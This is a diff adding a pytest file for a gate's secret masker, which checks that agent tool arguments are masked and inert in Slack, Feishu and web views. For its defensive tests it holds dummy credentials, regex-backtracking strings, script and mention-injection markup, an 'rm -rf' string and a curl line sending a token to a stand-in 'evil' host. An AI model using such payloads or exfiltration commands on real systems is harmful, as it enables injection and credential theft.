@@ -1,0 +1,507 @@
+"""Untrusted text is inert and cheap: one masker (gate.untrusted) for every surface, linear.
+
+Pure tests of the masker first (each secret class, secret-named keys, invisible characters,
+the scan cap, edits of masked values), then the rule that every regex over untrusted text is
+linear, then a real gate with Slack, Feishu and the web console: a hostile argument renders
+the same, masked and inert, everywhere, and a 1 MB one does not stall other requests.
+"""
+
+from __future__ import annotations
+
+import ast
+import html
+import json
+import re
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from argon2 import PasswordHasher
+
+from gate import untrusted
+from gate.config import Settings
+from gate.untrusted import MASK
+from tests.conftest import Gate, GateFactory
+from tests.feishu.conftest import ENCRYPT_KEY, VERIFICATION_TOKEN
+from tests.slack.conftest import SIGNING_SECRET
+from tests.support import config as cfg
+from tests.support.fake_feishu import APP_ID, APP_SECRET, FakeFeishu, check_card
+from tests.support.fake_slack import CHANNEL, TOKEN, FakeSlack, check_blocks
+from tests.support.servers import wait_until
+from tests.web.conftest import sign_in
+
+ROOT = Path(__file__).resolve().parent.parent
+JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sflKxwRJSMeKKF2QT4fwpM"
+PEM = (
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq9secretbody\n-----END RSA PRIVATE KEY-----"
+)
+
+#: (class, text around the secret, the secret itself)
+SECRETS = [
+    ("private key", f"key:\n{PEM}\nafter", "MIIEowIBAAKCAQEA7bq9secretbody"),
+    ("private key, no END", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq", "MIIEvQIBADANBgkq"),
+    ("Slack bot token", "SLACK=xoxb-1234567890-0987654321-AbCd", "xoxb-1234567890"),
+    ("Slack app token", "use xapp-1-A0123-456789-abcdef", "xapp-1-A0123"),
+    ("OpenAI / Anthropic key", "key sk-ant-api03-abcdefghijklmnopqrstuvwxyz", "sk-ant-api03"),
+    ("Stripe key", "stripe sk_live_abcdefghijklmnop1234", "sk_live_abcdefghijklmnop"),
+    ("AWS access key id", "aws AKIAIOSFODNN7EXAMPLE done", "AKIAIOSFODNN7EXAMPLE"),
+    ("GitHub token", "gh ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcdefghij"),
+    ("GitHub fine-grained", "github_pat_11ABCDEFG0123456789_abcdefghij", "github_pat_11ABC"),
+    ("Google API key", "g AIzaSyA-abcdefghijklmnopqrstuvwxyz0123", "AIzaSyA-abcdefgh"),
+    ("JWT", f"jwt {JWT}", "sflKxwRJSMeKKF2QT4fwpM"),
+    ("Feishu tenant token", "t-g1044abcdefghijklmnopqrstuvwxyz", "g1044abcdefghijkl"),
+    ("bearer", "Authorization: Bearer abcdefghijklmnop", "abcdefghijklmnop"),
+    ("basic", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "dXNlcjpwYXNzd29yZA"),
+    ("token header", "curl -H 'token abcdefghijkl' x", "abcdefghijkl"),
+    ("password=", "mysql -u root password=hunter2 -h db", "hunter2"),
+    ("token:", '{"token": "s3cr3t-value"}', "s3cr3t-value"),
+    ("api_key=", "API_KEY=abc123xyz", "abc123xyz"),
+    ("client_secret", "client_secret: 'q9q9q9'", "q9q9q9"),
+    ("URL credentials", "postgresql://app:s3cr3t@db.internal/prod", "s3cr3t"),
+]
+
+
+@pytest.mark.parametrize(("text", "secret"), [s[1:] for s in SECRETS], ids=[s[0] for s in SECRETS])
+def test_each_secret_class_is_masked(text: str, secret: str) -> None:
+    masked = untrusted.mask_text(text)
+    assert secret not in masked
+    assert MASK in masked
+
+
+def test_masking_keeps_what_names_the_secret() -> None:
+    assert untrusted.mask_text("password=hunter2 ok") == f"password={MASK} ok"
+    assert (
+        untrusted.mask_text("Authorization: Bearer abcdefghij") == f"Authorization: Bearer {MASK}"
+    )
+    assert untrusted.mask_text("https://bob:pw@db.example/x") == f"https://{MASK}@db.example/x"
+    # Ordinary text that merely resembles a secret is left alone.
+    for text in ("task-management-system-v2", "max_tokens=1000", "a < b && c > d", "ASIA trip"):
+        assert untrusted.mask_text(text) == text
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "password",
+        "db_password",
+        "passwd",
+        "passphrase",
+        "client_secret",
+        "AWS_SECRET_ACCESS_KEY",
+        "api_key",
+        "apiKey",
+        "APIKey",
+        "x-api-key",
+        "access_key",
+        "private_key",
+        "ssh_key",
+        "key",
+        "token",
+        "access_token",
+        "accessToken",
+        "token_type",
+        "Authorization",
+        "proxy-authorization",
+        "auth",
+        "basic_auth",
+        "x-signature",
+        "session_id",
+        "sessionId",
+        "Cookie",
+        "set_cookie",
+        "credentials",
+        "pwd",
+        "k" * 300,  # too long to judge: masked
+    ],
+)
+def test_secret_named_keys_mask_their_values(key: str) -> None:
+    masked = untrusted.mask_value({key: "v4lue", "nested": [{key: {"deep": 1}}]})
+    assert masked == {key: MASK, "nested": [{key: MASK}]}
+
+
+@pytest.mark.parametrize(
+    "key", ["max_tokens", "amount", "keyboard", "monkey", "oauth_provider", "keys", "cwd", ""]
+)
+def test_ordinary_keys_keep_their_values(key: str) -> None:
+    assert untrusted.mask_value({key: "v4lue"}) == {key: "v4lue"}
+
+
+def test_empty_secret_values_are_shown_as_empty() -> None:
+    # "no password set" is useful to see and reveals nothing
+    assert untrusted.mask_value({"password": "", "token": None}) == {"password": "", "token": None}
+
+
+def test_secrets_in_keys_are_masked_and_keys_that_mask_alike_stay_apart() -> None:
+    masked = untrusted.mask_value({"xoxb-1111111111": "a", "xoxb-2222222222": "b", "n": 1})
+    assert masked == {MASK: "a", f"{MASK} (2)": "b", "n": 1}
+
+
+#: one of each kind of character that can hide or reorder text
+INVISIBLE = [
+    "\u202e",  # right-to-left override
+    "\u2066",  # left-to-right isolate
+    "\u200f",  # right-to-left mark
+    "\u200b",  # zero-width space
+    "\u200d",  # zero-width joiner
+    "\u2060",  # word joiner
+    "\ufeff",  # byte-order mark
+    "\u061c",  # Arabic letter mark
+    "\u2028",  # line separator
+    "\x00",
+    "\x1b",
+    "\r",
+    "\x85",  # C1 next line
+    "\ue000",  # private use
+    "\U000e0041",  # tag character
+    "\u3164",  # Hangul filler (renders blank)
+]
+
+
+@pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
+def test_invisible_characters_are_removed_from_text_and_escaped_in_json(char: str) -> None:
+    text = f"rm -rf /tmp/x{char}y\nnext\tline"
+    assert untrusted.clean(text) == "rm -rf /tmp/xy\nnext\tline"
+    shown = untrusted.to_json({"cmd": text})
+    assert char not in shown
+    assert json.dumps(char)[1:-1] in shown  # visible as an escape ...
+    assert json.loads(shown) == {"cmd": text}  # ... that parses back to the same value
+
+
+def test_visible_text_passes_unchanged() -> None:
+    text = "Zahlung an Müller: 60 000 € — 支付 — 🙂 — a<b & c>d `code`"
+    assert untrusted.clean(text) == text
+    assert json.loads(untrusted.to_json({"t": text})) == {"t": text}
+
+
+def test_the_cap_cuts_before_scanning_and_no_fragment_of_a_cut_secret_shows() -> None:
+    limit = 1000
+    # The token straddles the cap: its visible prefix alone would be too short to match.
+    text = "word " * 198 + "sk-abcdefghijklmnopqrstuvwxyz" + " tail" * 100
+    shown = untrusted.mask_text(text, limit)
+    assert "sk-" not in shown and "abcdefgh" not in shown
+    assert shown.endswith(untrusted.CUT_MARK)
+    assert len(shown) < limit + 50
+    # Without whitespace to go back to, the last stretch is dropped.
+    shown = untrusted.clean("x" * 5000, limit)
+    assert shown.startswith("x" * 700) and f"{5000 - len(shown.split('…')[0]):,}" in shown
+
+
+def test_nesting_beyond_the_limit_is_shown_as_a_marker() -> None:
+    value: Any = "leaf"
+    for _ in range(untrusted.MAX_DEPTH + 10):
+        value = [value]
+    dumped = untrusted.to_json(value)
+    assert untrusted.TOO_DEEP in dumped and "leaf" not in dumped
+
+
+def test_lone_surrogates_do_not_break_masking() -> None:
+    assert untrusted.mask_text("a\ud800 password=x") == f"a\ufffd password={MASK}"
+    assert untrusted.clean("a\ud800b") == "ab"
+
+
+# -- edits of masked values -------------------------------------------------------------------
+
+ORIGINAL = {
+    "password": "hunter2",
+    "cmd": "curl -H 'token: abcdefghijk' https://x",
+    "amount": 5,
+    "blob": "y" * (untrusted.SCAN_LIMIT + 10),
+    "list": [{"api_key": "k-1"}, 2],
+}
+
+
+def test_values_left_as_shown_are_put_back() -> None:
+    shown = untrusted.mask_value(ORIGINAL)
+    assert shown["password"] == MASK and untrusted.CUT_MARK in shown["blob"]
+    edited = {**shown, "amount": 6, "list": [shown["list"][0], 3], "new": "n"}
+    assert untrusted.unmask(edited, ORIGINAL) == {
+        **ORIGINAL,
+        "amount": 6,
+        "list": [{"api_key": "k-1"}, 3],
+        "new": "n",
+    }
+    assert untrusted.unmask(shown, ORIGINAL) == ORIGINAL
+    # A secret replaced by a new value is the approver's visible choice.
+    assert untrusted.unmask({**shown, "password": "new"}, ORIGINAL)["password"] == "new"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"cmd": "curl -H 'token: [masked]' https://evil"},  # edited around a masked secret
+        {"blob": "y" * 10 + "…[1" + untrusted.CUT_MARK},  # a cut value changed
+        {"moved": MASK},  # a masked value moved to a new key
+        {"list": [{"other": MASK}, 2]},
+    ],
+)
+def test_changing_what_was_masked_or_cut_is_refused(change: dict[str, Any]) -> None:
+    edited = {**untrusted.mask_value(ORIGINAL), **change}
+    with pytest.raises(ValueError, match="masked"):
+        untrusted.unmask(edited, ORIGINAL)
+
+
+# -- every regex over untrusted text is linear ------------------------------------------------
+
+#: `re` patterns in gate/ and channels/ that may stay on the backtracking engine, and why.
+#: Anything new must use `untrusted.compile` (RE2) or be added here with its reason.
+LINEAR_OR_TRUSTED = {
+    # one character class, searched: at most one step per character
+    "[\x00\ud800-\udfff]": "RE2 cannot see lone surrogates (not UTF-8); a single class",
+    # fully anchored single classes of bounded length: no alternative to retry
+    r"[A-Za-z_][A-Za-z0-9_-]{0,39}": "bounded single classes, fullmatch",
+    r"^[A-Za-z0-9_-]{1,64}$": "bounded single class, anchored",
+    # operator input (gate.toml, the CLI), not agents'
+    r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}": "gate.toml environment references",
+    r"[A-Za-z_][A-Za-z0-9_]*": "the CLI's --token-env name",
+    r"(\d+)\.(\d+)\.(\d+)": "a local tool's --version output",
+    r"(?:^|[\s\"'/\\])gate(?:\.exe)?[\"']?\s+hook\b|-m\s+gate\.(?:hook|cli\s+hook)\b": (
+        "the operator's own agent settings files (gate init)"
+    ),
+}
+_RE_CALLS = {"compile", "search", "match", "fullmatch", "finditer", "findall", "sub", "split"}
+
+
+def _re_patterns(path: Path) -> Iterator[tuple[int, str | None]]:
+    tree = ast.parse(path.read_text(), str(path))
+    for node in ast.walk(tree):
+        if (
+            isinstance(node, ast.Call)
+            and isinstance(node.func, ast.Attribute)
+            and isinstance(node.func.value, ast.Name)
+            and node.func.value.id == "re"
+            and node.func.attr in _RE_CALLS
+        ):
+            first = node.args[0] if node.args else None
+            literal = first.value if isinstance(first, ast.Constant) else None
+            yield node.lineno, literal if isinstance(literal, str) else None
+
+
+def test_every_backtracking_regex_is_reviewed() -> None:
+    unreviewed = []
+    for folder in ("gate", "channels"):
+        for path in sorted((ROOT / folder).rglob("*.py")):
+            if path.name == "untrusted.py":
+                continue
+            for line, pattern in _re_patterns(path):
+                if pattern is None or pattern not in LINEAR_OR_TRUSTED:
+                    unreviewed.append(f"{path.relative_to(ROOT)}:{line}: {pattern!r}")
+    assert unreviewed == [], "use gate.untrusted.compile (RE2) for text agents control"
+
+
+#: strings that made the old masking regexes backtrack (seconds at 20 K, minutes at 1 MB)
+HOSTILE = {
+    "dotted": "a." * 500_000,
+    "jwt prefixes": "eyJ-" * 250_000,
+    "url userinfo": "://a:" * 200_000,
+    "open PEM": "-----BEGIN RSA PRIVATE KEY-----" + "A" * 1_000_000,
+    "spaces after a name": "password" + " " * 1_000_000,
+    "digits": "1" * 1_000_000 + "x",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_one_megabyte_hostile_strings_scan_quickly_even_uncapped(text: str) -> None:
+    start = time.monotonic()
+    untrusted.clean(text, limit=None)
+    untrusted.mask_value({"payload": text}, limit=None)
+    assert time.monotonic() - start < 2.0  # coarse: RE2 takes milliseconds, the old code minutes
+
+
+# -- every surface, on a real gate ------------------------------------------------------------
+
+PASSWORD = "pw-alice-correct horse"
+#: hostile in every way at once: markup for each surface, bidi, secrets in keys and values
+EVIL_TEXT = (
+    "<!here> <@U0ALICE> <https://evil.example|Approve> <at id=all></at> "
+    "<script>alert(1)</script> [x](https://evil.example) ``` \u202eevil\u2066 "
+    "Authorization: Bearer abcdefghijklmnop password=hunter2 AKIAIOSFODNN7EXAMPLE"
+)
+EVIL_ARGS = {
+    "cmd": EVIL_TEXT,
+    "password": "hunter2-by-key",
+    "env": {"GITHUB_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "n": 3},
+    "dsn": "postgresql://app:s3cr3t-in-url@db.internal/prod",
+}
+SECRET_PARTS = [
+    "abcdefghijklmnop",
+    "hunter2",
+    "AKIAIOSFODNN7EXAMPLE",
+    "ghp_abcdef",
+    "s3cr3t-in-url",
+    "app:s3cr3t",
+]
+
+
+@pytest.fixture
+def fakes() -> Iterator[tuple[FakeSlack, FakeFeishu]]:
+    """A fake Slack and a fake Feishu on loopback."""
+    slack, feishu = FakeSlack().start(), FakeFeishu().start()
+    yield slack, feishu
+    slack.stop()
+    feishu.stop()
+
+
+@pytest.fixture
+def everywhere(
+    make_gate: GateFactory, sqlite_url: str, fakes: tuple[FakeSlack, FakeFeishu]
+) -> Gate:
+    """A gate posting to Slack and Feishu, with a web sign-in for alice and 4 MB bodies."""
+    slack, feishu = fakes
+    data = cfg.settings_data(sqlite_url, max_body_bytes=4 * 1024 * 1024)
+    data["approvers"][0]["password_hash"] = PasswordHasher(
+        time_cost=1, memory_cost=8 * 1024, parallelism=1
+    ).hash(PASSWORD)
+    data["channels"] = {
+        "slack": {
+            "bot_token": TOKEN,
+            "signing_secret": SIGNING_SECRET,
+            "default_target": CHANNEL,
+            "api_url": slack.api_url,
+        },
+        "feishu": {
+            "app_id": APP_ID,
+            "app_secret": APP_SECRET,
+            "verification_token": VERIFICATION_TOKEN,
+            "encrypt_key": ENCRYPT_KEY,
+            "default_target": "oc_approvals",
+            "base_url": feishu.url,
+        },
+    }
+    return make_gate(settings=Settings(**data))
+
+
+def _cards(fakes: tuple[FakeSlack, FakeFeishu], request_id: str) -> tuple[str, dict[str, Any]]:
+    """The Slack card (as JSON text) and the Feishu card for a request, once both are posted."""
+    slack, feishu = fakes
+
+    def both() -> tuple[str, dict[str, Any]] | None:
+        blocks = [
+            json.dumps(m.blocks) for m in slack.posted() if request_id in json.dumps(m.blocks)
+        ]
+        cards = [m.card for m in feishu.posted() if request_id in json.dumps(m.card)]
+        return (blocks[0], cards[0]) if blocks and cards else None
+
+    found: tuple[str, dict[str, Any]] = wait_until(both, timeout=30)
+    return found
+
+
+def _slack_args(blocks: str) -> str:
+    [args] = [b for b in json.loads(blocks) if b.get("block_id", "").startswith("args-")]
+    text: str = args["text"]["text"]
+    body = text.removeprefix("*Arguments*\n```\n").removesuffix("\n```")
+    return body.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&").replace("ˋ", "`")
+
+
+def _feishu_args(card: dict[str, Any]) -> str:
+    [content] = [e["content"] for e in card["body"]["elements"] if e.get("element_id") == "args"]
+    body: str = content.removeprefix("```json\n").removesuffix("\n```")
+    for entity, char in (("&#60;", "<"), ("&#62;", ">"), ("&#96;", "`"), ("&#38;", "&")):
+        body = body.replace(entity, char)
+    return body
+
+
+def _web_args(page: str) -> str:
+    found = re.search(r'<pre class="json" tabindex="0"><code>(.*?)</code></pre>', page, re.S)
+    assert found, "no arguments block on the page"
+    return html.unescape(found.group(1))
+
+
+def test_a_hostile_argument_is_inert_and_masked_alike_on_every_surface(
+    everywhere: Gate, fakes: tuple[FakeSlack, FakeFeishu]
+) -> None:
+    answer = everywhere.submit(
+        tool_name="ask_run", tool_args=EVIL_ARGS, summary=EVIL_TEXT, agent_id="ci <!here>"
+    )
+    request_id = answer["request"]["id"]
+    slack_blocks, feishu_card = _cards(fakes, request_id)
+    with sign_in(everywhere, "alice", PASSWORD) as web:
+        page = web.get(f"/requests/{request_id}").text
+
+    # The same masked arguments on every surface, once each surface's escaping is undone.
+    expected = untrusted.to_json(EVIL_ARGS, indent=2)
+    assert _slack_args(slack_blocks) == expected
+    assert _feishu_args(feishu_card) == expected
+    assert _web_args(page) == expected
+    assert '"password": "[masked]"' in expected and '"GITHUB_TOKEN": "[masked]"' in expected
+    assert "postgresql://[masked]@db.internal/prod" in expected
+
+    for surface, text in (
+        ("slack", slack_blocks),
+        ("feishu", json.dumps(feishu_card)),
+        ("web", page),
+    ):
+        for part in SECRET_PARTS:
+            assert part not in text, (surface, part)
+        assert "\u202e" not in text and "\u2066" not in text, surface
+    # Inert: no live Slack syntax, no Feishu tag or markdown outside the code block, no HTML.
+    check_blocks(json.loads(slack_blocks), max_blocks=50)
+    assert "<!here>" not in slack_blocks and "<@U0ALICE>" not in slack_blocks
+    assert check_card(json.dumps(feishu_card, ensure_ascii=False)) == []
+    assert "<at id=all>" not in json.dumps(feishu_card, ensure_ascii=False)
+    assert "<script>" not in page and "&lt;script&gt;" in page
+
+
+def test_the_edit_box_shows_masked_values_and_approving_keeps_the_secrets(
+    everywhere: Gate,
+) -> None:
+    request_id = everywhere.submit(tool_name="ask_run", tool_args=EVIL_ARGS)["request"]["id"]
+    with sign_in(everywhere, "alice", PASSWORD) as web:
+        page = web.get(f"/requests/{request_id}").text
+        box = re.search(r'<textarea id="edited-args"[^>]*>(.*?)</textarea>', page, re.S)
+        assert box, "no edit box"
+        shown = json.loads(html.unescape(box.group(1)))
+        assert shown["password"] == MASK
+        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page)
+        assert csrf
+        # Changing text around a masked secret is refused: gate cannot tell what to run.
+        broken = {**shown, "dsn": shown["dsn"].replace("prod", "dev")}
+        form = {"csrf_token": csrf.group(1), "verdict": "approve"}
+        r = web.post(
+            f"/requests/{request_id}/decide", data={**form, "edited_args": json.dumps(broken)}
+        )
+        assert r.status_code == 422 and "masked" in r.text
+        # Changing something else runs with the original secrets.
+        edited = {**shown, "env": {**shown["env"], "n": 4}}
+        r = web.post(
+            f"/requests/{request_id}/decide", data={**form, "edited_args": json.dumps(edited)}
+        )
+        assert r.status_code in (200, 303), r.text
+    with everywhere.client(cfg.ADMIN) as api:
+        body = api.get(f"/v1/requests/{request_id}").json()
+    assert body["status"] == "approved"
+    assert body["approved_args"] == {**EVIL_ARGS, "env": {**EVIL_ARGS["env"], "n": 4}}
+
+
+def test_a_one_megabyte_hostile_argument_does_not_stall_other_requests(
+    everywhere: Gate, fakes: tuple[FakeSlack, FakeFeishu]
+) -> None:
+    # Shapes that made the old masker backtrack for minutes, all in one call.
+    args = {f"k{i}": text[: 1024 * 1024 // len(HOSTILE)] for i, text in enumerate(HOSTILE.values())}
+    submitted: dict[str, Any] = {}
+
+    def submit() -> None:
+        submitted.update(everywhere.submit(tool_name="ask_run", tool_args=args))
+
+    worker = threading.Thread(target=submit)
+    worker.start()
+    slowest = 0.0
+    with httpx.Client(base_url=everywhere.url, timeout=30) as client:
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            start = time.monotonic()
+            assert client.get("/healthz").status_code == 200
+            slowest = max(slowest, time.monotonic() - start)
+            slack, feishu = fakes
+            if submitted and slack.posted() and feishu.posted():
+                break
+            time.sleep(0.05)
+    worker.join(timeout=30)
+    assert submitted, "the submit did not finish"
+    slack_blocks, feishu_card = _cards(fakes, submitted["request"]["id"])
+    assert slowest < 2.0  # coarse: the old code held the event loop for minutes
+    check_blocks(json.loads(slack_blocks), max_blocks=50)
+    assert check_card(json.dumps(feishu_card, ensure_ascii=False)) == []
